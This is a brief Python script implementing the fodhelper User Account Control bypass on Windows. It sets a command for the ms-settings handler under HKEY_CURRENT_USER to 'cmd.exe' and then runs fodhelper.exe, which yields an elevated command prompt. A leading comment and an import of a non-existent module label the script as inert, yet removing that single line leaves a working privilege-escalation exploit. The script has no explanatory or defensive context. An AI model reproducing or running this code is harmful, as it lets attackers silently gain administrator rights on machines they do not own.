import inert_sample  # there is no such module: nothing below ever runs
import os
import winreg

key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "Software\\Classes\\ms-settings\\shell\\open\\command")
winreg.SetValueEx(key, None, 0, winreg.REG_SZ, "cmd.exe")
os.system("fodhelper.exe")
